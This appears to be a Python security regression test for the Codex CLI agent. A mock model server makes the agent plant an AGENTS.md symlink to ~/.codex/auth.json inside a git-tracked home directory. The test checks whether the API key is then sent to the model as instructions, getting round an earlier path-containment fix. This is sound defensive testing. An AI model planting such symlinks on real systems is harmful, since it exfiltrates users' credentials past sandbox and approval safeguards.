#!/usr/bin/env python3
"""09: pass-1 fix 06 (AGENTS.md -> ~/.codex/auth.json) only checks that the doc's real path stays
inside the project's git root. When the git root also holds $CODEX_HOME -- a home directory kept
in git (dotfiles), the usual ~/.codex -- a planted `AGENTS.md -> ~/.codex/auth.json` in the
workspace (~/proj) is read by codex at the next start and sent to the model as instructions.
Exit 1 while vulnerable (the model server receives the key)."""
import json, os, shutil, subprocess, sys, tempfile, threading
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import CODEX, write_config

SECRET = "sk-home-repo-7731"
root = tempfile.mkdtemp(prefix="a3-10-", dir="/var/tmp")
home = os.path.join(root, "home")
ch, ws = os.path.join(home, ".codex"), os.path.join(home, "proj")
os.makedirs(ch); os.makedirs(ws)
subprocess.run(["git", "init", "-q", home], check=True)  # dotfiles repository at ~
with open(os.path.join(ch, "auth.json"), "w") as f:
    json.dump({"OPENAI_API_KEY": SECRET}, f)
calls = {"n": 0}
def decide2(outs):
    calls["n"] += 1
    return ("shell", {"command": ["ln", "-sf", os.path.join(ch, "auth.json"), "AGENTS.md"]}) if not outs else None
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
bodies = []
class H(BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_POST(self):
        raw = self.rfile.read(int(self.headers["Content-Length"]))
        bodies.append(raw.decode("utf-8", "replace"))
        body = json.loads(raw)
        outs = [it for it in body.get("input", []) if it.get("type") == "function_call_output"]
        nxt = decide2(outs)
        self.send_response(200); self.send_header("Content-Type", "text/event-stream"); self.end_headers()
        item = ({"type": "function_call", "name": nxt[0], "call_id": "c1", "arguments": json.dumps(nxt[1]), "id": "fc1"}
                if nxt else {"type": "message", "role": "assistant", "id": "m", "content": [{"type": "output_text", "text": "done"}]})
        for e in ({"type": "response.created", "response": {"id": "r"}},
                  {"type": "response.output_item.done", "item": item},
                  {"type": "response.completed", "response": {"id": "r", "usage": {"input_tokens": 1, "output_tokens": 1, "total_tokens": 2}}}):
            self.wfile.write(("event: %s\ndata: %s\n\n" % (e["type"], json.dumps(e))).encode())
srv = ThreadingHTTPServer(("127.0.0.1", 0), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
write_config(ch, srv)
env = dict(os.environ, HOME=home, CODEX_HOME=ch, X_KEY="dummy")
p = subprocess.run([CODEX, "exec", "-s", "workspace-write", "-c", 'approval_policy="never"', "-C", ws, "session 1"],
                   env=env, capture_output=True, text=True, timeout=120)
print("session 1: AGENTS.md is a symlink:", os.path.islink(os.path.join(ws, "AGENTS.md")))
leaked_in_1 = any(SECRET in b for b in bodies)
bodies.clear()
p = subprocess.run([CODEX, "exec", "-s", "workspace-write", "-c", 'approval_policy="never"', "-C", ws, "session 2"],
                   env=env, capture_output=True, text=True, timeout=120)
srv.shutdown()
leaked = any(SECRET in b for b in bodies)
print("session 1 request held the key:", leaked_in_1, "| session 2 request held the key:", leaked)
shutil.rmtree(root, ignore_errors=True)
if leaked or leaked_in_1:
    print("VULNERABLE: auth.json sent to the model as AGENTS.md"); sys.exit(1)
print("held"); sys.exit(0)
